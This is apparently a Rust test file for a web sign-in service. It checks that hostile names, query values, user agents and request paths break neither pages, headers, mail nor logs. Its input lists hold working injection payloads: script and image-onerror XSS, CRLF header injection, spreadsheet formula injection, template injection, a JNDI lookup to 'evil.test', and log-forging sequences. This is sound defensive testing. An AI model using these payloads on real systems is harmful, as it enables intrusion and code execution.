//! Hostile texts: names, problems, references, what browsers call themselves.

use http::{Method, StatusCode};
use percent_encoding::percent_decode_str;
use simulated_clio::Person;
use sqlx::PgPool;
use vestibule::db::migrations::MIGRATOR;

use crate::harness::{
    Browser, PASSWORD, Settings, Site, account_with_password, confirm_link, give_password, logs,
    prompted, signed_in,
};

fn query(value: &str) -> String {
    form_urlencoded::byte_serialize(value.as_bytes()).collect()
}

#[sqlx::test(migrator = "MIGRATOR")]
async fn unknown_and_hostile_problem_codes_and_references_are_told_in_general_words(pool: PgPool) {
    let site = Site::start(pool, |_| ()).await;
    let browser = Browser::new(&site);
    for value in [
        "no-such-code",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "",
        "DECLINED",
        "é",
    ] {
        let value = query(value);
        let reply = browser
            .get(&format!("/sign-in?problem={value}&ref={value}"))
            .await;
        assert_eq!(reply.status, StatusCode::OK, "{value}");
        assert!(reply.body.contains("The sign-in didn’t finish"), "{value}");
        assert!(
            !reply.body.contains("<script") && !reply.body.contains("<img"),
            "{value}"
        );
        let forms = browser.get(&format!("/link?problem={value}")).await;
        assert_eq!(forms.status, StatusCode::OK, "{value}");
    }
    for code in [
        "declined",
        "not_ready",
        "client_portal",
        "clio_error",
        "expired",
        "clio_unavailable",
        "not_verified",
        "no_email",
        "not_invited",
        "closed",
        "account_closed",
        "other_person",
    ] {
        let reply = browser
            .get(&format!("/sign-in?problem={code}&ref=7Q4K-92MX"))
            .await;
        assert!(
            reply.body.contains("7Q4K-92MX") && !reply.body.contains("The sign-in didn’t finish"),
            "{code}"
        );
    }
}

const NAMES: [(&str, &str); 12] = [
    (
        "<script>alert(1)</script>",
        "</title><script>alert(2)</script>",
    ),
    ("\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)"),
    ("\u{202e}tset.live", "\u{2066}x\u{2069}"),
    ("Dana\r\nX-Auth-Role: owner", "Whitlock\r\n\r\n<html>"),
    ("=cmd|'/c calc'!A1", "@SUM(1+1)*cmd"),
    ("{{7*7}}", "${jndi:ldap://evil.test/x}"),
    ("%00%0d%0a", "100%"),
    ("\u{0}Dana\u{0}", "\u{7f}\u{1b}[31m"),
    ("&lt;b&gt;", "&#x202e;"),
    ("<!--", "-->"),
    ("]]>", "<![CDATA["),
    ("नाम", "名前 🦀"),
];

/// Logins at Clio, one for each of the [`NAMES`]: `person-0` and so on.
fn people_of_these_names(settings: &mut Settings) {
    for (number, (first, last)) in NAMES.iter().enumerate() {
        let subject = format!("person-{number}");
        let email = format!("{subject}@harbourlane.test");
        settings
            .people
            .push(Person::new(subject, email).named(*first, *last));
    }
}

#[sqlx::test(migrator = "MIGRATOR")]
async fn hostile_names_break_neither_pages_nor_headers_nor_json(pool: PgPool) {
    let site = Site::start(pool, people_of_these_names).await;
    for (number, names) in NAMES.iter().enumerate() {
        let browser = signed_in(&site, &format!("person-{number}")).await;
        let account = browser.session().await.unwrap()["account"].clone();
        let (first, last) = (
            account["first_name"].as_str().unwrap(),
            account["last_name"].as_str().unwrap(),
        );
        for name in [first, last] {
            assert!(
                !name
                    .chars()
                    .any(|c| c.is_control() || ('\u{202a}'..='\u{2069}').contains(&c)),
                "{names:?}: {name:?}"
            );
        }
        for path in ["/welcome", "/account", "/sign-in"] {
            let page = browser.get(path).await;
            for markup in [
                "<script>alert",
                "<img",
                "<b>",
                "</title><script",
                "<![CDATA[",
            ] {
                assert!(!page.body.contains(markup), "{path} {names:?}: {markup}");
            }
            assert_eq!(
                page.body.matches("</html>").count(),
                usize::from(page.status == StatusCode::OK),
                "{path} {names:?}"
            );
        }
        let verify = browser.get("/auth/verify").await;
        assert_eq!(verify.status, StatusCode::OK);
        assert_eq!(verify.header("x-auth-role"), "member");
        let shown = verify.header("x-auth-name");
        assert!(
            shown.bytes().all(|b| matches!(b, 0x20..=0x7e)),
            "{names:?}: {shown}"
        );
        let expected = [first, last]
            .iter()
            .filter(|name| !name.is_empty())
            .copied()
            .collect::<Vec<_>>()
            .join(" ");
        if expected.bytes().all(|b| matches!(b, 0x20..=0x7e)) && !expected.is_empty() {
            assert_eq!(shown, expected, "plain text stays as it is");
        } else if !expected.is_empty() {
            assert_eq!(
                percent_decode_str(shown).decode_utf8().unwrap(),
                expected,
                "{names:?}"
            );
        }
    }
}

#[sqlx::test(migrator = "MIGRATOR")]
async fn hostile_names_break_neither_the_prompt_nor_its_mail(pool: PgPool) {
    let site = Site::start(pool, |settings| {
        settings.set("FIRM_NAME", "Harbour & <Lane> \"Söhne\" =cmd()");
        people_of_these_names(settings);
    })
    .await;
    for (number, names) in NAMES.iter().enumerate() {
        account_with_password(&site, &format!("person-{number}@harbourlane.test")).await;
        let browser = prompted(&site, &format!("person-{number}")).await;
        let page = browser.get("/link").await;
        for markup in ["<script>alert", "<img", "<b>", "</title><script", "<Lane>"] {
            assert!(!page.body.contains(markup), "{names:?}: {markup}");
        }
        give_password(&browser, PASSWORD).await.leads_to("/link");
        let page = browser.get("/link").await;
        for markup in ["<script>alert", "<img", "<b>", "</title><script", "<Lane>"] {
            assert!(!page.body.contains(markup), "{names:?}: {markup}");
        }
        let reply = confirm_link(&browser).await;
        assert_eq!(reply.location(), "/account", "{names:?}");
    }
    let subjects: Vec<String> = sqlx::query_scalar("SELECT subject FROM mail_outbox")
        .fetch_all(&site.pool)
        .await
        .unwrap();
    assert_eq!(subjects.len(), NAMES.len());
    assert!(
        subjects
            .iter()
            .all(|subject| !subject.chars().any(char::is_control))
    );
}

#[sqlx::test(migrator = "MIGRATOR")]
async fn a_hostile_user_agent_and_address_break_nothing(pool: PgPool) {
    let site = Site::start(pool, |_| ()).await;
    let long = "<script>".repeat(800);
    for agent in [
        "<script>alert(1)</script>",
        "\"'><b>",
        "",
        "caf\u{e9}",
        long.as_str(),
    ] {
        let browser = Browser::new(&site).with_header("user-agent", agent);
        browser.sign_in(&site, "dana").await;
        let page = browser.get("/account").await;
        assert_eq!(page.status, StatusCode::OK, "{agent:?}");
        assert!(
            !page.body.contains("<script>") && !page.body.contains("<b>"),
            "{agent:?}"
        );
    }
}

#[sqlx::test(migrator = "MIGRATOR")]
async fn nothing_that_is_sent_forges_a_line_of_the_log(pool: PgPool) {
    let site = Site::start(pool, |_| ()).await;
    const FORGED: &str = "2026-01-01T00:00:00Z ERROR forged-by-a-visitor";
    for broken in ["%0d%0a", "%0a", "%0d", "%1b[2K", "%e2%80%a8", "%c2%85"] {
        let forged = format!("x{broken}{}", FORGED.replace(' ', "%20"));
        for path in [
            format!("/{forged}"),
            format!("/sign-in?problem={forged}&ref={forged}"),
            format!("/auth/clio/start?return_to=/{forged}"),
            format!(
                "/auth/clio/callback?state={forged}&error={forged}&error_description={forged}&error_hint={forged}"
            ),
        ] {
            let browser = Browser::new(&site).with_header("x-forwarded-for", "203.0.113.9");
            assert!(!browser.get(&path).await.status.is_server_error(), "{path}");
        }
        let form = format!("email={forged}&password={forged}");
        let browser = Browser::new(&site);
        let send = browser.send(
            Method::POST,
            "/auth/local/password",
            "same-origin",
            Some(form),
        );
        assert!(!send.await.status.is_server_error());
    }
    for line in logs().lines() {
        assert!(
            !line.starts_with("2026-01-01T00:00:00Z"),
            "a visitor wrote {line:?}"
        );
        assert!(!line.contains('\u{1b}'), "{line:?}");
    }
    site.honest_sign_in_works().await;
}
